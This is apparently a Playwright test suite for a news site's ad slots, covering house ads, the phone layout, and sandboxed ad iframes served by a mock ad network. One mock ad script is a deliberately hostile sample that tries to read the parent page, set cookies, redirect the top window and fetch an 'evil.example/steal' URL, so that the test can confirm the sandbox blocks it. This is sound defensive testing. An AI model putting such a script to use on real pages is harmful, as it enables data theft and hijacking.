import { once } from "node:events";
import { createServer, type Server } from "node:http";
import { test as baseTest } from "@playwright/test";
import { startCity, type TestCity } from "../support/city.ts";
import { desktop, expect, phone, stopClock, test, waitForHydration } from "./support.ts";

const inAdRows = (selector: string) => `.ad-row ${selector}`;

test.describe("as shipped", () => {
  test("the rows of the home page have the specified slots, each with a house ad", async ({
    page,
  }) => {
    await page.setViewportSize(desktop);
    await page.goto("/");
    const rows = await page
      .locator(".ad-row")
      .evaluateAll((all) =>
        all.map((row) =>
          [...row.children].map(
            (slot) => slot.getAttribute("data-ad-slot") ?? slot.getAttribute("data-ad-type"),
          ),
        ),
      );
    expect(rows).toEqual([
      ["6079445", "1452360", "google"],
      ["6079446", "1452361", "buddhatv"],
      ["6079448", "1452363", "dunamis"],
    ]);
    for (const slot of await page.locator(inAdRows("> *")).all()) {
      await expect(slot).toContainText("From Harborline");
      await expect(slot).not.toContainText("Advertisement");
      await expect(slot).toHaveCSS("min-height", "250px");
      await expect(slot.getByRole("link")).toBeVisible();
    }
    await expect(page.locator("iframe")).toHaveCount(0);
  });

  test("on a phone only one slot of each row is shown, and the others load nothing", async ({
    page,
  }) => {
    const requestedPaths: string[] = [];
    page.on("request", (request) => requestedPaths.push(new URL(request.url()).pathname));
    await page.setViewportSize(phone);
    await page.goto("/");
    for (const row of await page.locator(".ad-row").all()) {
      await row.scrollIntoViewIfNeeded();
      await expect(
        row.locator("> *").locator("visible=true").filter({ hasText: "From Harborline" }),
      ).toHaveCount(1);
    }
    await expect.poll(() => requestedPaths).toContain("/art/radio.svg");
    // Only house ads in hidden slots use this image.
    expect(requestedPaths).not.toContain("/art/newsletter.svg");
  });

  test("house ads show the next event and the newest post, and no image that is already on the page", async ({
    request,
  }) => {
    const pages = [
      "/",
      "/news",
      "/local",
      "/archives",
      "/events",
      "/community",
      "/blog",
      "/contact",
      "/faq",
    ];
    for (const path of [...pages, "/blog/poes-two-graves", "/partners", "/about"]) {
      const html = await (await request.get(path)).text();
      const images = [...html.matchAll(/<img[^>]+>/g)].map(([tag]) => ({
        src: /src="([^"]+)"/.exec(tag)?.[1],
        isHouse: tag.includes("house-image"),
      }));
      const repeated = images.filter(
        ({ src, isHouse }, index) =>
          isHouse && images.some((other, otherIndex) => otherIndex !== index && other.src === src),
      );
      expect(repeated, path).toEqual([]);
    }
    // A page does not wait for a house ad that is late, but is rendered again with it.
    const readHome = async () => (await request.get("/")).text();
    await expect.poll(readHome).toMatch(/New on the blog.{0,900}?href="\/blog\/[\w-]+"/s);
    const readEvent = async () =>
      /Coming up · Sample event.{0,900}?href="\/events\/[\w-]+"/s.exec(await readHome())?.[0];
    await expect.poll(readEvent).toMatch(/day, [A-Z][a-z]+ \d+ · \d+:\d\d [AP]M/);
  });

  test("a row of house ads has one visible label, and no empty band below it", async ({ page }) => {
    for (const width of [768, 1024, 1440]) {
      await page.setViewportSize({ width, height: 900 });
      await page.goto("/events");
      const row = page.locator(".ad-row");
      const opacities = await row
        .getByText("From Harborline", { exact: true })
        .evaluateAll((labels) => labels.map((label) => getComputedStyle(label).opacity));
      expect(opacities, `at ${width} px`).toEqual(["1", "0", "0"]);
      const bottoms = await row
        .getByRole("link")
        .evaluateAll((links) => links.map((link) => link.getBoundingClientRect().bottom));
      const footer = await page
        .getByRole("contentinfo")
        .evaluate((element) => element.getBoundingClientRect().top);
      const band = footer - Math.max(...bottoms);
      expect(band, `at ${width} px`).toBeGreaterThanOrEqual(90);
      expect(band, `at ${width} px`).toBeLessThan(160);
    }
  });

  test("/about has one ad row, and /privacy has none", async ({ page }) => {
    await page.goto("/about");
    await expect(page.locator(".ad-row")).toHaveCount(1);
    await page.goto("/privacy");
    await expect(page.locator(".ad-row")).toHaveCount(0);
    await expect(page.getByText("come from other companies")).toHaveCount(0);
  });

  test("ads.txt authorizes nobody to sell our slots, and there are no ad frames", async ({
    request,
  }) => {
    expect(await (await request.get("/ads.txt")).text()).toContain(
      "placeholder.example.com, placeholder, DIRECT",
    );
    expect((await request.get("/embed/ad/6079445")).status()).toBe(404);
  });
});

baseTest.describe("with an ad network", () => {
  // One city for all of these tests, which run one after the other.
  baseTest.describe.configure({ mode: "default" });
  let network: Server;
  let city: TestCity;
  /** What the ad network returns for each slot: a script, a status code, or nothing at all. */
  const scripts: Record<string, string | number | "hang"> = {
    "6079445": `document.getElementById("ad").innerHTML = '<a href="https://shop.example" target="_blank" style="display:block;height:240px;background:gold">Buy crabs</a>'`,
    "1452360": 500,
    "6079446": "hang",
    "1452361": "",
    // This script tries several attacks, and reports which of them worked.
    "6079448": `
      const worked = [];
      const attempt = (name, what) => { try { what(); worked.push(name); } catch {} };
      attempt("page", () => parent.document.title);
      attempt("storage", () => localStorage.setItem("x", "1"));
      attempt("cookie", () => { document.cookie = "x=1"; });
      attempt("top", () => { top.location.href = "https://evil.example/"; });
      document.getElementById("ad").innerHTML = '<p style="height:100px">' + (worked.join() || "nothing worked") + '</p>';
      fetch("https://evil.example/steal").catch(() => {});`,
  };

  baseTest.beforeAll(async () => {
    network = createServer((request, response) => {
      const slot = new URL(request.url ?? "", "http://x").searchParams.get("slot") ?? "";
      const reply = scripts[slot] ?? 404;
      if (reply === "hang") return;
      if (typeof reply === "number") response.writeHead(reply).end();
      else response.writeHead(200, { "content-type": "text/javascript" }).end(reply);
    }).listen(0, "127.0.0.1");
    await once(network, "listening");
    const address = network.address();
    const host = `http://127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
    const loader = `loader:\n  script: ${host}/show.js?slot={slot}\n  hosts: ["${host}"]\n`;
    city = await startCity({ "ads.yaml": (source) => loader + source });
  });
  baseTest.afterAll(async () => {
    await city.close();
    network.closeAllConnections();
    network.close();
  });

  baseTest(
    "an ad is shown with its label, in a frame that cannot reach the page",
    async ({ page }) => {
      await page.setViewportSize(desktop);
      // Otherwise an ad that needs five seconds on a busy machine would not be shown.
      await stopClock(page);
      await page.goto(city.server.url);
      await waitForHydration(page);
      const slot = page.locator('[data-ad-slot="6079445"]');
      await expect(page.locator("iframe")).toHaveCount(0);
      await slot.scrollIntoViewIfNeeded();
      await expect(
        slot.frameLocator("iframe").getByRole("link", { name: "Buy crabs" }),
      ).toBeVisible();
      await expect(slot.getByText("Advertisement", { exact: true })).toBeVisible();
      await expect(slot.getByText("From Harborline")).toHaveCount(0);
      await expect(slot.locator(".house-ad")).toHaveAttribute("inert");
      const frame = await page.request.get(`${city.server.url}/embed/ad/6079445`);
      const policy = frame.headers()["content-security-policy"];
      expect(policy).toContain("sandbox allow-scripts allow-popups;");
      expect(policy).toContain("frame-ancestors 'self'");
      expect((await page.request.get(`${city.server.url}/embed/ad/999`)).status()).toBe(404);
    },
  );

  baseTest("a slot whose ad fails, hangs or stays empty keeps its house ad", async ({ page }) => {
    await page.setViewportSize(desktop);
    await page.clock.install();
    await page.goto(city.server.url);
    await waitForHydration(page);
    for (const id of ["1452360", "6079446", "1452361"]) {
      const slot = page.locator(`[data-ad-slot="${id}"]`);
      await slot.scrollIntoViewIfNeeded();
      await expect(slot.locator(".ad-frame-box")).not.toHaveAttribute("data-phase", "waiting");
      await page.clock.runFor(5_100);
      await expect(slot.locator("iframe")).toHaveCount(0);
      await expect(slot.getByRole("link")).toBeVisible();
      await expect(slot.getByText("From Harborline", { exact: true })).toBeVisible();
      await expect(slot.getByText("Advertisement")).toHaveCount(0);
      await expect(slot.locator(".house-ad")).not.toHaveAttribute("inert");
    }
  });

  baseTest("a hostile script achieves nothing", async ({ page }) => {
    const requestedUrls: string[] = [];
    page.on("request", (request) => requestedUrls.push(request.url()));
    await page.setViewportSize(desktop);
    await stopClock(page);
    await page.goto(city.server.url);
    await waitForHydration(page);
    const slot = page.locator('[data-ad-slot="6079448"]');
    await slot.scrollIntoViewIfNeeded();
    await expect(slot.frameLocator("iframe").getByText("nothing worked")).toBeVisible();
    expect(page.url()).toBe(`${city.server.url}/`);
    expect(requestedUrls.filter((url) => url.includes("evil"))).toEqual([]);
    // A message from another window that claims to be the ad is ignored.
    const other = page.locator('[data-ad-slot="1452363"]');
    await other.scrollIntoViewIfNeeded();
    await page.evaluate(() => postMessage("harborline-ad:filled"));
    await expect(other.locator(".house-ad")).not.toHaveAttribute("inert");
  });

  baseTest("hidden slots on a phone send no requests", async ({ page }) => {
    const requestedUrls: string[] = [];
    page.on("request", (request) => requestedUrls.push(request.url()));
    await page.setViewportSize(phone);
    await stopClock(page);
    await page.goto(city.server.url);
    await waitForHydration(page);
    await page.locator('[data-ad-slot="6079445"]').scrollIntoViewIfNeeded();
    await expect(page.locator('[data-ad-slot="6079445"] iframe')).toHaveCount(1);
    expect(requestedUrls.filter((url) => url.includes("1452360"))).toEqual([]);
  });

  baseTest("the privacy page says that ads come from other companies", async ({ page }) => {
    await page.goto(`${city.server.url}/privacy`);
    await expect(
      page.getByText("Advertisements on this site come from other companies."),
    ).toBeVisible();
  });
});
